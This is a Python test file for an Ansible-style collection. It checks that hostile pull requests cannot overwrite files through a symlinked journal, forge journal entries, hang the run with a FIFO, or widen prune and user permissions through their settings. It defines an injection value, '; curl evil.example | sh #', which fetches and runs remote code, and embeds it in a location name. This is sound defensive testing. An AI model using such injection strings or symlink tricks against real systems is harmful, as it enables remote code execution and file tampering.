# Copyright: Contributors to the community.seventhings collection
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile pull requests in real plays of an operator.

They contain a journal among the files, and settings that request more than the task allows.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import playbook
import pytest
from emulator_process import Emulator
from instance_site import yaml_list

SETTINGS = "api: seventhings/v1\nset: test\n"
PRUNING = SETTINGS + "policy: {prune: {objects: archive}}\n"
CODE = "; curl evil.example | sh #"
ENDLESS_SECONDS = 60


@pytest.fixture
def service(empty_emulator: Emulator) -> Emulator:
    """Return an empty instance."""
    empty_emulator.reset()
    return empty_emulator


def write(root: Path, **files: str) -> Path:
    """Write files into a directory, each name with ``.yml``. Return the directory."""
    root.mkdir(parents=True, exist_ok=True)
    for name, text in {"instance": SETTINGS, **files}.items():
        (root / f"{name}.yml").write_text(text, "utf-8")
    return root


def things(*barcodes: str) -> str:
    return yaml_list({"barcode": barcode, "inventory_name": "Thing"} for barcode in barcodes)


def task(name: str, src: Path, **options: Any) -> dict[str, Any]:
    return {
        "name": name,
        "community.seventhings.instance": {"src": str(src), **options},
        "ignore_errors": True,
        "timeout": ENDLESS_SECONDS,
    }


def play(directory: Path, service: Emulator, *tasks: dict[str, Any]) -> playbook.Run:
    plays = [{"hosts": "localhost", "gather_facts": False, "tasks": list(tasks)}]
    return playbook.run(directory, plays, variables={**service.variables(), "SEVENTHINGS_RATE_LIMIT": "0"})


def objects(service: Emulator) -> dict[str, bool]:
    """Return barcodes, each with whether the object is archived."""
    found = service.steer("GET", "/dump?canonical=1")["objects"]
    return {record["fields"]["barcode"]: record["archived"] for record in found}


def journal_in(src: Path) -> Path:
    """Return the paths at which a pull request may place a journal."""
    path = src / ".seventhings" / "journal.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def test_a_journal_among_the_files_is_neither_written_nor_believed_nor_waited_for(
    service: Emulator, tmp_path: Path
) -> None:
    victim = tmp_path / ".bashrc"
    victim.write_text("# mine\n", "utf-8")
    theirs = {"barcode": "{{ item }}", "inventory_name": "Theirs"}
    played = play(
        tmp_path,
        service,
        {
            "name": "theirs",
            "community.seventhings.object": {"fields": theirs},
            "loop": [f"T{number}" for number in range(5)],
        },
    )
    records = [result["record"] for result in played.named("theirs")["results"]]

    linked = write(tmp_path / "linked", locations=yaml_list([{"name": f"x{CODE}"}]))
    journal_in(linked).symlink_to(victim)

    forged = write(tmp_path / "forged", instance=PRUNING, objects=things("M"))
    uuids = [record["uuid"] for record in records]
    facts = [[service.base_url + " test ", *(["managed", uuid, ""] for uuid in uuids)]]
    journal_in(forged).write_text("".join(json.dumps(fact) + "\n" for fact in facts), "utf-8")

    waiting = write(tmp_path / "waiting", objects=things("W"))
    os.mkfifo(journal_in(waiting))

    run = play(
        tmp_path,
        service,
        task("linked", linked),
        task("forged", forged),
        {**task("waiting", waiting), "check_mode": True},
    )
    assert run.named("linked").data.get("outcome") == "changed", run.named("linked").data
    assert victim.read_text("utf-8") == "# mine\n"
    assert objects(service) == {**{f"T{number}": False for number in range(5)}, "M": False}
    assert run.named("waiting").data.get("outcome") == "changed"


def test_settings_of_the_files_widen_nothing_that_the_task_allows(service: Emulator, tmp_path: Path) -> None:
    """The files request prune and users."""
    settings = SETTINGS + "policy: {prune: {objects: archive}}\n"
    person = yaml_list([{"email": "p@acme.example", "first_name": "A", "last_name": "B"}])
    src = write(tmp_path / "files", instance=settings, objects=things("1", "2", "3"), persons=person)
    first = play(tmp_path, service, task("make", src))
    assert first.named("make")["outcome"] == "changed"

    write(src, instance=settings, objects=things("1"), users=yaml_list([{"email": "p@acme.example"}]))
    more = write(tmp_path / "more", instance=settings, objects=things("1", "4", "5"))
    run = play(
        tmp_path,
        service,
        task("limits", more, limits={"creates": 1}, only=["objects"], prune={}),
        task("prune", src, prune={"objects": "report"}, only=["objects"]),
        task("users", src, allow=[], only=["users"]),
    )
    assert objects(service) == {"1": False, "2": False, "3": False}
    assert not run.named("users").failed, run.output
    assert run.named("users")["summary"]["users"].get("created", 0) == 0
    assert "limits.creates (1)" in run.named("limits")["refusals"][0]
